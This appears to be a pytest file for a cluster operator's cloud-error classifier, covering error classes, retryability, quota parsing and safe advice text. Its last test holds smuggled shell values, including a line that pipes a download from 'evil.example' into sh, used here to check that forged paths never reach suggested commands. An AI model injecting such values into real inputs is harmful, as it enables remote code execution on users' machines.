"""Google's many ways to say no."""

import pytest

from mistral_operator.capacity import errors
from mistral_operator.capacity.advice import ClusterPlace, advise
from mistral_operator.capacity.errors import QuotaNamed, classify, parse_quota

INCOMPATIBLE = "Cluster is running incompatible operation operation-1700000000000-aaaa."
CREATING = "Operation operation-1 is currently creating a node pool for cluster serving. Please wait and try again."
TOO_MANY = 'Too many operations: cluster "serving" hits the concurrent operations quota 5, please try again later.'
RESERVATION = "projects/team-project/zones/us-central1-a/reservations/team-gpus"
NOT_READY = f"Cannot use reservation '{RESERVATION}', it requires reservation to be in READY state."
FULL = f"Specified reservation '{RESERVATION}' does not have available resources for the request."
REGIONAL = (
    "Insufficient regional quota to satisfy request: resource \"NVIDIA_L4_GPUS\": request requires '1.0' and is short "
    "'1.0'. project has a quota of '0.0' with '0.0' available."
)


@pytest.mark.parametrize(
    ("code", "text", "expected"),
    [
        ("ALREADY_EXISTS", "Already exists: projects/p/.../nodePools/mm-x.", errors.AlreadyExistsError),
        ("NOT_FOUND", "Not found: projects/p/.../nodePools/mm-x.", errors.NotFoundError),
        ("FAILED_PRECONDITION", INCOMPATIBLE, errors.BusyError),
        ("FAILED_PRECONDITION", CREATING, errors.BusyError),
        ("FAILED_PRECONDITION", "anything that Google words anew", errors.BusyError),
        ("INVALID_ARGUMENT", INCOMPATIBLE, errors.BusyError),
        ("RESOURCE_EXHAUSTED", TOO_MANY, errors.BusyError),
        ("PERMISSION_DENIED", "rateLimitExceeded: CONCURRENT_OPERATIONS_QUOTA_EXCEEDED", errors.BusyError),
        (
            "RESOURCE_EXHAUSTED",
            "Quota exceeded for quota metric 'Read requests' and limit 'Read requests per minute'",
            errors.ThrottledError,
        ),
        ("RESOURCE_EXHAUSTED", "[GCE_STOCKOUT] out of it", errors.StockedOutError),
        ("", "ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS: zonesAvailable: b", errors.StockedOutError),
        ("INTERNAL", "The zone does not have enough resources available", errors.StockedOutError),
        ("RESOURCE_EXHAUSTED", "[GCE_QUOTA_EXCEEDED] Quota 'X' exceeded.", errors.QuotaExceededError),
        ("INVALID_ARGUMENT", REGIONAL, errors.QuotaExceededError),
        ("", "IP_SPACE_EXHAUSTED_WITH_DETAILS: no free addresses", errors.AddressesExhaustedError),
        ("PERMISSION_DENIED", 'Required "container.clusters.update" permission(s)', errors.PermissionDeniedError),
        ("", "[NODE_SERVICE_ACCOUNT_MISSING_PERMISSIONS] x", errors.PermissionDeniedError),
        ("FAILED_PRECONDITION", "CONDITION_NOT_MET: Unsupported TPU configuration", errors.InvalidRequestError),
        ("INVALID_ARGUMENT", "Machine type with name 'x' does not exist.", errors.InvalidRequestError),
        ("", "RESERVATION_NOT_FOUND: r", errors.ReservationNotFoundError),
        ("NOT_FOUND", f"Specified reservations [{RESERVATION}] do not exist.", errors.ReservationNotFoundError),
        ("FAILED_PRECONDITION", NOT_READY, errors.ReservationNotReadyError),
        ("RESOURCE_EXHAUSTED", FULL, errors.ReservationExhaustedError),
        ("", "[RESERVATION_CAPACITY_EXCEEDED] no quota is named", errors.ReservationExhaustedError),
        (
            "INVALID_ARGUMENT",
            f"No available resources in specified reservations [{RESERVATION}].",
            errors.ReservationIncompatibleError,
        ),
        ("", "GCE error RESERVATION_INCOMPATIBLE", errors.ReservationIncompatibleError),
        ("INVALID_ARGUMENT", "INVALID_RESERVATION: not shared", errors.InvalidReservationError),
        (
            "",
            "The reservation must exist in the same project as the instance, or be shared with it.",
            errors.InvalidReservationError,
        ),
        ("UNAVAILABLE", "The service is currently unavailable, quota or not.", errors.UnavailableError),
        ("DEADLINE_EXCEEDED", "Deadline Exceeded", errors.UnavailableError),
        ("INTERNAL", "Internal error", errors.UnavailableError),
        ("", "", errors.UnavailableError),
    ],
)
def test_the_class_says_what_it_means(code: str, text: str, expected: type[errors.CloudError]) -> None:
    error = classify(code, text)
    assert type(error) is expected
    assert error.text == text


@pytest.mark.parametrize("reason", sorted(errors.RESERVATION_REASONS))
def test_only_a_reservation_that_is_being_made_is_worth_waiting_for(reason: str) -> None:
    error = next(kind for kind in errors.CloudError.__subclasses__() if kind.reason == reason)
    assert error.retryable == (reason == "ReservationNotReady")


def test_only_an_unknown_outcome_may_have_taken_effect() -> None:
    assert classify("UNAVAILABLE", "x").finding.outcome_unknown
    assert not classify("INVALID_ARGUMENT", "x").finding.outcome_unknown


@pytest.mark.parametrize("text", ["[GCE_STOCKOUT] x", "Quota 'X' exceeded.", "PERMISSIONS_ERROR"])
def test_what_needs_somebody_is_not_retried_soon(text: str) -> None:
    assert not classify("", text).retryable


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Quota 'NVIDIA_L4_GPUS' exceeded.  Limit: 1.0 in region us-central1.",
            QuotaNamed("NVIDIA_L4_GPUS", "us-central1", "1.0"),
        ),
        (REGIONAL, QuotaNamed("NVIDIA_L4_GPUS", "", "0.0")),
        ("Quota 'GPUS_ALL_REGIONS' exceeded.  Limit: 0.0 globally.", QuotaNamed("GPUS_ALL_REGIONS", "", "0.0")),
        ("quota exceeded", QuotaNamed("", "", "")),
    ],
)
def test_the_quota_that_an_error_names_is_found(text: str, expected: QuotaNamed) -> None:
    assert parse_quota(text) == expected


@pytest.mark.parametrize(
    "path",
    [
        "projects/$(curl${IFS}evil.example|sh)/zones/us-central1-a/reservations/gpus",
        "projects/p`id`/zones/us-central1-a/reservations/gpus",
        "projects/p/zones/us-central1-a;id/reservations/gpus",
        "projects/--impersonate/zones/us-central1-a/reservations/gpus",
    ],
)
def test_a_forged_text_puts_nothing_into_a_command(path: str) -> None:
    """Whoever may create Events writes such texts, and people paste the commands."""
    finding = classify("", f"RESERVATION_CAPACITY_EXCEEDED: {path}").finding
    told = advise(finding, ClusterPlace("our-project", "us-central1", "serving"))
    assert told.count("NAME --zone ZONE --project our-project") == 2
    assert path not in told
